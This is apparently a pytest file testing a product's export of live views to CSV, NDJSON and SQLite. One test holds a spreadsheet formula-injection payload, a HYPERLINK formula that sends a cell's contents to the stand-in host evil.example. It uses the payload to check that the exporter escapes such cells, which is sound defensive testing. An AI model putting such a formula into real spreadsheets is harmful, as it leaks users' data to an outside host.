"""Exports of views: the rows of the live view in three kinds of file, and cells that must not become formulas."""
import csv
import json
import os
import sqlite3

import pytest

from product import ROOT, VIEWS, greeted, replay


@pytest.fixture(scope="module")
def company(make_shared_server, demo):
    server = make_shared_server("exported").start()
    server.load(demo(60))
    server.wait_for_views()
    return server


def flat(row, prefix=""):
    """Members of nested objects under dotted names, lists as canonical JSON text."""
    cells = {}
    for name, value in row.items():
        if isinstance(value, dict):
            cells |= flat(value, f"{prefix}{name}.")
        elif isinstance(value, list):
            cells[prefix + name] = json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        else:
            cells[prefix + name] = value
    return cells


def as_text(value):
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


@pytest.mark.parametrize("view", VIEWS)
def test_every_format_has_the_rows_of_the_view(company, view, tmp_path):
    expected = [flat(row) for row in company.scan(view, limit=7)]
    columns = sorted({column for row in expected for column in row})
    stamp = company.ask("scan", view, limit=1)
    assert len(expected) >= 50
    for kind in ("csv", "ndjson", "sqlite"):
        replay(company.directory, "export", view, "--format", kind, "--out", tmp_path / kind)

    with open(tmp_path / "csv", encoding="utf-8", newline="") as file:
        head, names, *lines = csv.reader(file)
    assert f"position={stamp['position']} " in head[0] and f"view={view}" in head[0] and not any(head[1:])
    assert names == columns
    assert lines == [[as_text(row.get(column)) for column in columns] for row in expected]

    head, *lines = map(json.loads, (tmp_path / "ndjson").read_text().splitlines())
    assert {name: head["export"][name] for name in ("view", "version", "position", "latest_time")} \
        == {name: stamp[name] for name in ("view", "version", "position", "latest_time")}
    assert [flat(line) for line in lines] == expected

    with sqlite3.connect(f"file:{tmp_path / 'sqlite'}?mode=ro", uri=True) as file:
        table = file.execute(f"SELECT * FROM {view.replace('-', '_')}")
        assert [column[0] for column in table.description] == columns
        assert table.fetchall() == [tuple(row.get(column) for column in columns) for row in expected]
        assert dict(file.execute("SELECT * FROM _export"))["position"] == stamp["position"]
    assert sorted(os.listdir(tmp_path)) == ["csv", "ndjson", "sqlite"]


def test_an_export_is_of_one_moment(company, tmp_path):
    end = company.ask("scan", "sales-funnel", limit=1)["position"]
    replay(company.directory, "export", "sales-funnel", "--format", "ndjson", "--out", tmp_path / "now")
    replay(company.directory, "export", "sales-funnel", "--format", "ndjson", "--out", tmp_path / "then",
           "--at", end // 2)
    replay(company.directory, "export", "sales-funnel", "--format", "ndjson", "--out", tmp_path / "then2",
           "--as-of", "2024-12-31")
    now, then, then2 = ([json.loads(line) for line in (tmp_path / name).read_text().splitlines()]
                        for name in ("now", "then", "then2"))
    assert then[0]["export"]["position"] == end // 2 and then2[0]["export"]["asof"] == "2024-12-31T23:59:59.999Z"
    assert len(now) > len(then) > 1 and len(now) > len(then2) > 1
    assert all(row["opened_at"] < 1_735_689_600_000 for row in then2[1:])


def test_the_live_server_exports_the_same_file(company, tmp_path):
    for kind in ("csv", "ndjson"):
        company.rapport("view", "export", "customer-360", "--format", kind, "--out", tmp_path / "live")
        replay(company.directory, "export", "customer-360", "--format", kind, "--out", tmp_path / "replayed")
        live, replayed = ((tmp_path / name).read_text().splitlines() for name in ("live", "replayed"))
        assert live[1:] == replayed[1:] and len(live) > 60, "all but the stamp, which names the log in one of them"


def test_a_customer_cannot_put_a_formula_into_a_spreadsheet(make_server, tmp_path):
    server = make_server().start()
    source = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    replies = greeted(server).execute_command("LOG.INGEST", *(json.dumps({
        "specversion": "1.0", "id": str(place), "source": "/t", "subject": f"opportunity-{place}",
        "type": "opportunity.opened", "time": "2025-01-01T00:00:00Z",
        "data": {"opportunity_id": str(place), "account_id": "a", "pipeline_id": "p", "pipeline_version": 1,
                 "stage_id": "s", "owner_id": "u", "source": text, "amount": -5, "currency": "CNY",
                 "name": "n", "type": "new"}})
        for place, text in enumerate([source, "@x", "+1", "-1+1", "plain"])))
    assert not [str(reply) for reply in replies if isinstance(reply, Exception)]
    replay(server.directory, "export", "sales-funnel", "--format", "csv", "--out", tmp_path / "deals.csv")
    with open(tmp_path / "deals.csv", encoding="utf-8", newline="") as file:
        _, names, *lines = csv.reader(file)
    cells = {line[names.index("opportunity_id")]: line[names.index("source")] for line in lines}
    assert cells == {"0": "'" + source, "1": "'@x", "2": "+1", "3": "'-1+1", "4": "plain"}
    assert all(line[names.index("amount")] == "-5" for line in lines)


def test_nothing_is_written_into_the_data_directory(company, tmp_path):
    place = company.directory / "log" / "data.mdb"
    before = place.read_bytes()
    fold = ("fold", ROOT / "Projections/SQL/revenue-by-month.sql")
    for words in [("export", "customer-360", "--format", "csv"), fold]:
        for name in (place, company.directory / "new"):
            said = replay(company.directory, *words, "--out", name, expecting=1).stderr
            assert "lies in the data directory" in said
    assert place.read_bytes() == before and not (company.directory / "new").exists()


def test_ids_of_digits_alone_are_ids(make_server, tmp_path):
    server = make_server().start()
    client = server.client()
    client.ping()
    for first in range(0, 1200, 400):
        client.execute_command("LOG.INGEST", *(json.dumps({
            "specversion": "1.0", "id": str(number), "source": "/t", "type": "account.created",
            "subject": f"account-{number:05}", "data": {
                "account_id": f"{number:05}", "natural_person": False, "name": "n"}})
            for number in range(10_000 + first, 10_400 + first)))
    server.wait_for_views()
    out = tmp_path / "all.ndjson"
    server.rapport("view", "export", "customer-360", "--format", "ndjson", "--out", out)
    assert len(out.read_text().splitlines()) == 1201
    page = server.rapport("view", "scan", "customer-360", "from=11199", "--json")
    assert [row["account_id"] for row in json.loads(page.stdout)["rows"]] == ["11199"]
    twice = server.rapport("view", "scan", "customer-360", "limit=1", "limit=2", expecting=1).stderr
    assert "stands twice" in twice
